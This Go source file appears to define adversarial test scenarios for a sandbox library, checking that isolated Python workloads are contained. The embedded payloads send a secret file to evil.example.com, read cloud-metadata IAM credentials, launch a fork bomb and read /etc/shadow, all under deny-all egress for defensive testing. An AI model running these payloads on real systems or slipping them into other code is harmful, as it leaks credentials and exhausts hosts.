package demo

import (
	"fmt"

	"github.com/enclave-run/enclave"
)

const (
	exfilHost    = "evil.example.com"
	metadataHost = "169.254.169.254"
	metadataURL  = "http://169.254.169.254/latest/meta-data/iam/security-credentials/"
)

// Labels of the six checks.
const (
	exfilLabel    = "data-exfil egress -> evil.example.com"
	metadataLabel = "metadata-IP cred read -> 169.254.169.254"
	forkLabel     = "resource exhaustion (fork bomb)"
	shadowLabel   = "host-filesystem read -> /etc/shadow"
	cleanLabel    = "clean compute (well-behaved agent)"
	secretLabel   = "brokered secret"
)

// A scenario is one workload and how its session is judged.
type scenario struct {
	label   string
	hostile bool
	request enclave.SessionRequest
	judge   func(seen) verdict
}

// canaries are the random strings of one demo: a mark that a workload prints
// right before its attempt, what it is to steal, and what it must never see.
type canaries struct {
	mark   string // printed by the workload itself, so that no pass is vacuous
	file   string // content of /work/secret
	host   string // content of hostPath, a file of this host
	jwt    string // brokered
	opaque string // brokered

	hostPath string
}

var denyAll = enclave.Egress{Mode: enclave.DenyAll, Allow: []string{}}

func exfilCode(mark string) string {
	return fmt.Sprintf(`import requests
secret = open("/work/secret").read()
print(%q, flush=True)
requests.get("http://evil.example.com/exfil?data=" + secret)
`, mark)
}

func metadataCode(mark string) string {
	return fmt.Sprintf(`import urllib.request
print(%q, flush=True)
print(urllib.request.urlopen("%s").read())
`, mark, metadataURL)
}

func forkCode(mark string) string {
	return fmt.Sprintf(`import os
print(%q, flush=True)
while True:
    os.fork()
`, mark)
}

// shadowCode tries two paths of the host: the file that every host has, and
// one that no image can have.
func shadowCode(mark, hostPath string) string {
	return fmt.Sprintf(`print(%q, flush=True)
try:
    print(open("/etc/shadow").read())
except OSError as e:
    print("refused", type(e).__name__)
print(%q, flush=True)
try:
    print(open(%q).read())
except OSError as e:
    print("refused", type(e).__name__)
`, mark+" /etc/shadow", mark+" "+hostPath, hostPath)
}

const cleanCode = `total = sum(i * i for i in range(10))
enclave.result({"answer": total})
`

// hundredForks is the control of the fork bomb: it holds 100 processes at once.
const hundredForks = `import os
r, w = os.pipe()
pids = []
for i in range(100):
    pid = os.fork()
    if pid == 0:
        os.close(w)
        os.read(r, 1)
        os._exit(0)
    pids.append(pid)
os.close(w)
done = 0
for pid in pids:
    done += os.waitpid(pid, 0)[1] == 0
enclave.result({"forks": done})
`

func request(code string) enclave.SessionRequest {
	return enclave.SessionRequest{Code: code, Language: "python", Egress: denyAll}
}

// scenarios returns the five workloads in their order.
func (d *adversarial) scenarios() []scenario {
	exfil := request(exfilCode(d.canary.mark))
	exfil.Files = map[string]string{"secret": d.canary.file}
	fork := request(forkCode(d.canary.mark))
	fork.Limits.PidsLimit = 64
	return []scenario{
		{exfilLabel, true, exfil, d.judgeExfil},
		{metadataLabel, true, request(metadataCode(d.canary.mark)), d.judgeMetadata},
		{forkLabel, true, fork, d.judgeFork},
		{shadowLabel, true, request(shadowCode(d.canary.mark, d.canary.hostPath)), d.judgeShadow},
		{cleanLabel, false, request(cleanCode), d.judgeClean},
	}
}
